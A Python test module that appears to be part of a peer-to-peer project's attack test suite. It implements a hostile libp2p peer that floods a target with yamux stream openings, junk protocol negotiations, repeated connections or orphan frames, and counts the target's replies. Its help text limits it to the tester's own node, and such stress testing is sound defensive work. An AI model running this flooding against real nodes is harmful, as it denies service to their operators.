"""A hostile peer that opens streams or connections without end, or sends frames for no stream.

`python -m tests.attacks.opening`, a separate process, writes JSON lines.

It writes prepared yamux frames as fast as the victim reads them, and counts the replies.

Output: {"ready": CPU seconds so far}; at the end {"opened": streams opened, connections accepted, or frames
written, "answered": streams on which the victim sent data, "answers": number of its data frames, "ended":
streams that the victim ended, "dials": connections tried, "refused": connections refused, "spent": CPU
seconds of this process}.
"""

import argparse
import contextlib
import itertools
import struct
import time
from collections.abc import Iterator
from dataclasses import asdict, dataclass
from typing import Any

import trio
from libp2p.io.trio import TrioTCPStream
from libp2p.network.connection.raw_connection import RawConnection
from libp2p.peer.id import ID
from libp2p.stream_muxer.yamux.yamux import (
    FLAG_FIN,
    FLAG_RST,
    FLAG_SYN,
    HEADER_SIZE,
    TYPE_DATA,
    TYPE_WINDOW_UPDATE,
    YAMUX_HEADER_FORMAT,
)

from p2p.address import parse_bootstrap
from p2p.engines.libp2p.stack import make_host
from p2p.identity import Identity
from testbed.probe import options, say
from tests.attacks.harness import REDIALS, declare
from tests.attacks.nodes import key_of
from tests.doubles import until


def line(text: str) -> bytes:
    """Encode a line of multistream-select."""
    return bytes([len(text) + 1]) + text.encode() + b"\n"


ENDED = 5.0  # seconds to wait until the victim has ended all streams
HELLO = line("/multistream/1.0.0")
STREAMS = {  # bytes written on each stream, by kind
    "silent": b"",
    "unknown": HELLO + line("/unknown/1"),
    "identify": HELLO + line("/ipfs/id/1.0.0"),
    "names": HELLO + line("/unknown/1") * 500,
    "pings": HELLO + line("/ipfs/ping/1.0.0") + bytes(32 * 500),
}
CONNECTIONS = {"connect": "the handshake, and closed", "hello": "closed as soon as the victim says something"}
FRAMES = {  # frames for a stream that does not exist: bytes of frames in each Noise message, by kind
    "frames": 1000 * HEADER_SIZE,
    "pieces": 1,
}


@dataclass
class Count:
    opened: int = 0
    answered: int = 0
    answers: int = 0
    ended: int = 0
    dials: int = 0
    refused: int = 0


def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    return struct.pack(YAMUX_HEADER_FORMAT, 0, kind, flags, stream, len(body)) + body


def opening(kind: str, number: int) -> bytes:
    """Return the bytes that open a stream.

    The attacker closes its side at once, so the stream ends when the victim closes its side.
    """
    return frame(TYPE_WINDOW_UPDATE, FLAG_SYN, number) + frame(TYPE_DATA, FLAG_FIN, number, STREAMS[kind])


async def connect(address: str, identity: Identity) -> Any:
    """Return a connection ready to read and write yamux frames. Raise an exception if it is refused."""
    peer, endpoint = parse_bootstrap(address)
    upgrader, target = make_host(identity).get_network().upgrader, ID.from_string(peer)
    raw = RawConnection(TrioTCPStream(await trio.open_tcp_stream(endpoint.host, endpoint.port)), True)
    try:
        secured = await upgrader.upgrade_security(raw, True, target)
        return (await upgrader.upgrade_connection(secured, target)).secured_conn
    except BaseException:
        with trio.CancelScope(shield=True):
            await raw.close()
        raise


async def open_streams(
    address: str, identity: Identity, kind: str, count: Count, limit: int, rate: float = float("inf")
) -> None:
    """Open streams on one connection, until it ends or `limit` streams were opened."""
    count.dials += 1
    try:
        secured = await connect(address, identity)
    except Exception:
        count.refused += 1
        return
    async with trio.open_nursery() as nursery:
        nursery.start_soon(_listen, secured, count, nursery.cancel_scope)
        begun = time.monotonic()
        with contextlib.suppress(Exception):  # hung up on; each layer raises another exception
            for number in range(1, 2 * limit, 2):
                await secured.write(opening(kind, number))
                count.opened += 1
                await trio.sleep(max(0.0, begun + count.opened / rate - time.monotonic()))
            with trio.move_on_after(ENDED):
                await until(lambda: count.ended == count.opened)
            nursery.cancel_scope.cancel()
    await secured.close()


async def send_frames(address: str, identity: Identity, kind: str, count: Count) -> None:
    """Write useless frames on one connection, until it ends."""
    count.dials += 1
    secured, frames = await connect(address, identity), frame(TYPE_WINDOW_UPDATE, 0, 1) * 1000
    with contextlib.suppress(Exception):  # hung up on; each layer raises another exception
        while True:
            await secured.conn.read_writer.read_write_closer.write(sealed(secured, frames, FRAMES[kind]))
            count.opened += 1000
    await secured.close()


def sealed(secured: Any, data: bytes, size: int) -> bytes:
    """Encrypt the data in Noise messages of `size` bytes each, with their length prefixes."""
    pieces = (secured.conn.encrypt(data[at : at + size]) for at in range(0, len(data), size))
    return b"".join(len(piece).to_bytes(2, "big") + piece for piece in pieces)


async def _listen(secured: Any, count: Count, done: trio.CancelScope) -> None:
    before = count.answered, count.ended
    data, answered, ended = b"", set[int](), set[int]()
    with contextlib.suppress(Exception):
        while more := await secured.read():
            data += more
            while len(data) >= HEADER_SIZE:
                _, kind, flags, stream, length = struct.unpack(YAMUX_HEADER_FORMAT, data[:HEADER_SIZE])
                size = HEADER_SIZE + (length if kind == TYPE_DATA else 0)
                if len(data) < size:
                    break
                data = data[size:]
                count.answers += kind == TYPE_DATA and stream % 2  # odd streams are the attacker's
                for seen, where in ((kind == TYPE_DATA, answered), (flags & (FLAG_FIN | FLAG_RST), ended)):
                    where.update([stream] if seen and stream % 2 else [])
                count.answered, count.ended = len(answered) + before[0], len(ended) + before[1]
    done.cancel()


async def open_connections(
    address: str,
    identities: Iterator[Identity],
    kind: str,
    count: Count,
    limit: int,
    source: str | None = None,
) -> None:
    """Open `limit` connections, one after the other. source: the address to dial from."""
    _, endpoint = parse_bootstrap(address)
    host, port = endpoint.host, endpoint.port
    for _ in range(limit):
        count.dials += 1
        try:
            if kind == "hello":
                async with await trio.open_tcp_stream(host, port, local_address=source) as stream:
                    if not await stream.receive_some(1):
                        raise ConnectionError
            else:
                await (await connect(address, next(identities))).close()
        except Exception:  # each layer raises a different exception
            count.refused += 1
        else:
            count.opened += 1


async def attack(given: argparse.Namespace) -> None:
    count, fresh = Count(), given.redial == "fresh"
    identities = (key_of(given.seed, n if fresh else 0) for n in itertools.count())
    say(ready=time.process_time())
    with trio.move_on_after(given.seconds):
        while True:
            if given.kind in FRAMES:
                await send_frames(given.bootstrap[0], next(identities), given.kind, count)
            elif given.kind in STREAMS:
                await open_streams(
                    given.bootstrap[0], next(identities), given.kind, count, given.limit, given.rate
                )
            else:
                await open_connections(given.bootstrap[0], identities, given.kind, count, given.limit)
            if given.redial == "none":
                break
    say(**asdict(count), spent=time.process_time())


def main() -> None:
    parser = options(
        "tests.attacks.opening", "opens streams and connections without end; give it only your own node"
    )
    defaults = {"kind": "unknown", "redial": "same", "seconds": 10.0, "rate": float("inf"), "limit": 100_000}
    about = {
        "redial": "dial again, with the same key or a new one",
        "rate": "streams a second",
        "limit": "streams of one connection",
    }
    choices = {"kind": [*STREAMS, *CONNECTIONS, *FRAMES], "redial": REDIALS}
    declare(parser, defaults | {"seed": 1}, choices, about)
    trio.run(attack, parser.parse_args())


if __name__ == "__main__":
    main()
